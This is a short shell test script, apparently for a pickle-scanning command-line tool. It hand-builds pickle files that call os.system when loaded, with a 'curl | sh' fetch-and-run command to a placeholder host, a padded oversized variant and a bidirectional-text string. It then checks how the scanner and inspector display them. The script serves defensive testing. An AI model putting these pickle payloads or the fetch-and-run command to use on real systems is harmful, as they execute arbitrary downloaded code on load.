# SPDX-License-Identifier: Apache-2.0
# What a call is given is shown to its end, and the ends of what is too long for a line; text
# is escaped as inspect does.
. "$TOP/tests/cli/lib"
python3 - <<'END'
import pickle

url = "https://example.org/" + "a" * 100
calls = {
    "long": "curl -fsSL %s | sh" % url,
    "large": "echo " + "x" * 100000 + "; curl -fsSL %s | sh" % url,
    "bidi": "echo \u202e\u00e9",
}
for name, command in calls.items():
    text = command.encode()
    with open(name, "wb") as out:
        out.write(b"\x80\x02cos\nsystem\nX" + len(text).to_bytes(4, "little") + text
                  + b"\x85R.")
END
for name in long large bidi; do
    status scan "$name" | grep -e calls -e =
done
"$STOCKADE" inspect --trace bidi | grep x0
